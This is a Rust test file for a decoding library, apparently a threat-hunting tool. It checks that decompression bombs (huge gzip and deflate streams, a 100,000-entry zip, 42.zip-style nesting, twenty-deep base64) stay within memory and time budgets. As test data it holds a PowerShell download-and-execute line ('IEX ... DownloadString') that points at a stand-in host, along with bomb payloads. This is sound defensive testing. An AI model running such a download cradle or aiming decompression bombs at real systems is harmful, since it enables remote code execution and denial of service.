//! Decompression bombs: each one stops at the budget, is flagged, finishes quickly, and the
//! peak memory it costs is measured with a counting allocator.
//!
//! One test function runs every case in turn, so no other test thread disturbs the count.
//! Release builds (`cargo test --release`) use the default 64 MiB budget and assert each
//! case finishes in under 2 s (about 0.5 s on an idle machine); debug builds use a 16 MiB
//! budget, a 1 GiB gzip and a loose time bound.
// A failed expectation stops a test or benchmark: panicking here is the point.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use common::*;
use huntkit_decode::{Compat, DecodeOptions, Decoder, Status};

struct Counting;

static CURRENT: AtomicUsize = AtomicUsize::new(0);
static PEAK: AtomicUsize = AtomicUsize::new(0);

fn grew(size: usize) {
    let now = CURRENT.fetch_add(size, Ordering::SeqCst) + size;
    PEAK.fetch_max(now, Ordering::SeqCst);
}

unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        let p = unsafe { System.alloc(layout) };
        if !p.is_null() {
            grew(layout.size());
        }
        p
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) };
        CURRENT.fetch_sub(layout.size(), Ordering::SeqCst);
    }
    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        let p = unsafe { System.alloc_zeroed(layout) };
        if !p.is_null() {
            grew(layout.size());
        }
        p
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        let p = unsafe { System.realloc(ptr, layout, new_size) };
        if !p.is_null() {
            if new_size >= layout.size() {
                grew(new_size - layout.size());
            } else {
                CURRENT.fetch_sub(layout.size() - new_size, Ordering::SeqCst);
            }
        }
        p
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

const MIB: usize = 1024 * 1024;

/// Decodes `text`, returning the result, the peak memory above the starting point, and
/// the time taken.
fn measure(text: &str, options: &DecodeOptions) -> (huntkit_decode::Decoded, usize, Duration) {
    let decoder = Decoder::new(options).unwrap();
    let base = CURRENT.load(Ordering::SeqCst);
    PEAK.store(base, Ordering::SeqCst);
    let start = Instant::now();
    let out = decoder.decode(text);
    let took = start.elapsed();
    let peak = PEAK.load(Ordering::SeqCst).saturating_sub(base);
    (out, peak, took)
}

fn time_limit() -> Duration {
    if cfg!(debug_assertions) {
        Duration::from_secs(20)
    } else {
        // About 0.5 s on an idle machine for the largest case; the margin absorbs a busy one.
        Duration::from_secs(2)
    }
}

/// The memory a decode may use: the output budget, plus working copies proportional to
/// the input text (the text without line breaks, and its decoded bytes), and a constant
/// for buffers and the hex view of an item (at most 1 MiB of bytes, 3 MiB of text, held
/// in the record and in the text in compat mode).
fn memory_limit(options: &DecodeOptions, input: usize) -> usize {
    options.max_output_bytes + 3 * input + 24 * MIB
}

fn check(name: &str, text: &str, options: &DecodeOptions) -> huntkit_decode::Decoded {
    let (out, peak, took) = measure(text, options);
    eprintln!(
        "{name} ({:?}): input {} KiB, {} records, peak {} MiB, {:?}",
        options.compat,
        text.len() / 1024,
        out.records.len(),
        peak / MIB,
        took
    );
    assert!(
        peak <= memory_limit(options, text.len()),
        "{name}: peak {peak} bytes over the limit"
    );
    assert!(took <= time_limit(), "{name}: took {took:?}");
    let produced: usize = out.records.iter().map(|r| r.input_bytes.len()).sum();
    assert!(
        produced <= options.max_output_bytes,
        "{name}: {produced} bytes out"
    );
    out
}

#[test]
fn bombs_are_bounded() {
    // Release builds check the default budget; debug builds, where inflating and hashing
    // are many times slower, check the same bounds with a smaller budget.
    let budget = if cfg!(debug_assertions) {
        16 * MIB
    } else {
        DecodeOptions::default().max_output_bytes
    };
    let default = DecodeOptions {
        max_output_bytes: budget,
        ..DecodeOptions::default()
    };
    let compat = DecodeOptions {
        compat: Compat::Msticpy,
        ..default.clone()
    };

    // A gzip that inflates to 10 GiB (10,240 members of 1 MiB of zeros); 1 GiB in debug
    // builds, where the 14 MB of base64 alone take seconds to scan.
    let gib = if cfg!(debug_assertions) { 1 } else { 10 };
    let gz = format!("start {} end", b64(&gzip_bomb(gib * 1024)));
    for options in [&default, &compat] {
        let out = check(&format!("gzip {gib} GiB"), &gz, options);
        assert!(out.truncated);
        let cut = out
            .records
            .iter()
            .find(|r| r.file_name == "gzip_file")
            .unwrap();
        assert_eq!(cut.status, Status::Truncated);
        assert!(out.text.starts_with("start ") && out.text.contains(" end"));
    }

    // Raw DEFLATE, as PowerShell's DeflateStream stagers carry it: 1 GiB of zeros (256 MiB
    // in debug builds). Telling it is a stream costs inflating up to the budget once more.
    let mib = if cfg!(debug_assertions) { 256 } else { 1024 };
    let raw = format!("start {} end", b64(&deflate_bomb(mib)));
    let out = check(&format!("raw deflate {mib} MiB"), &raw, &default);
    assert!(out.truncated);
    assert_eq!(out.records[0].file_type.as_deref(), Some("deflate"));
    assert_eq!(out.records[1].file_name, "deflate_data");
    assert_eq!(out.records[1].status, Status::Truncated);

    // A zip with 100,000 entries.
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..100_000u32 {
        writer.start_file(format!("{i}"), stored).unwrap();
        std::io::Write::write_all(&mut writer, b"x").unwrap();
    }
    let many = b64(&writer.finish().unwrap().into_inner());
    let out = check("zip of 100,000 entries", &many, &default);
    assert!(out.truncated);
    assert_eq!(out.records.len(), default.max_items);
    assert_eq!(out.records[0].status, Status::Truncated);

    // 42.zip's shape: five levels of 16-entry zips, 16^5 leaves of 16 MiB of zeros each.
    let nested = b64(&nested_zip_bomb(5, 16 * MIB));
    let out = check("42.zip-style nesting", &nested, &default);
    assert!(out.truncated);
    assert!(out.records.iter().any(|r| r.status == Status::Truncated));
    assert!(out.records.iter().map(|r| r.depth).max().unwrap() >= 6);

    // A 1 MB run of base64 that decodes to more base64 twenty times.
    let seed = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'); ".repeat(47);
    let layered = nested_base64(&seed, 20);
    assert!(layered.len() >= 1_000_000, "{}", layered.len());
    let out = check("base64 twenty deep", &layered, &default);
    assert!(!out.truncated);
    assert_eq!(out.records.len(), 20);
    assert_eq!(
        out.records[19].decoded_string.as_deref(),
        Some(seed.as_str())
    );
    // MSTICPy 3.0.2 stops after two levels here (its scan position runs past the inner
    // run, quirk Q-B3); compat mode does the same, quickly.
    let out = check("base64 twenty deep", &layered, &compat);
    assert_eq!(out.records.len(), 2);

    // A table of forty rows, each a gzip of 64 MiB of zeros: the rows share one budget of
    // three rows' worth, so the table costs no more than that, whatever its length.
    let row = format!("powershell -c {}", b64(&gzip_bomb(64)));
    let cells: Vec<String> = (0..40).map(|_| row.clone()).collect();
    let table_options = DecodeOptions {
        max_table_output_bytes: 3 * budget,
        ..default.clone()
    };
    for options in [
        table_options.clone(),
        DecodeOptions {
            compat: Compat::Msticpy,
            ..table_options.clone()
        },
    ] {
        let base = CURRENT.load(Ordering::SeqCst);
        PEAK.store(base, Ordering::SeqCst);
        let batch = huntkit_decode::decode_column(
            cells.iter().map(|c| Some(c.as_str())),
            "CommandLine",
            &options,
        )
        .unwrap();
        let peak = PEAK.load(Ordering::SeqCst).saturating_sub(base);
        eprintln!(
            "forty rows of gzip bombs ({:?}): {} records, peak {} MiB",
            options.compat,
            batch.num_rows(),
            peak / MIB
        );
        let warning = batch
            .schema()
            .metadata()
            .get(huntkit_core::WARNING_KEY)
            .cloned();
        assert!(warning.unwrap().contains("before row 3"));
        // The records, their Arrow copy and the working buffers of the row being decoded
        // (measured: 113 MiB, 134 MiB in compat mode): a few budgets, not forty.
        assert!(
            peak <= 3 * options.max_table_output_bytes + 24 * MIB,
            "{peak}"
        );
    }

    // The same with a smaller budget: flagged and cut, within the smaller bound.
    let small = DecodeOptions {
        max_output_bytes: 2 * MIB,
        ..DecodeOptions::default()
    };
    let out = check("base64 twenty deep, 2 MiB budget", &layered, &small);
    assert!(out.truncated);
    assert!(out.records.len() < 20);
}
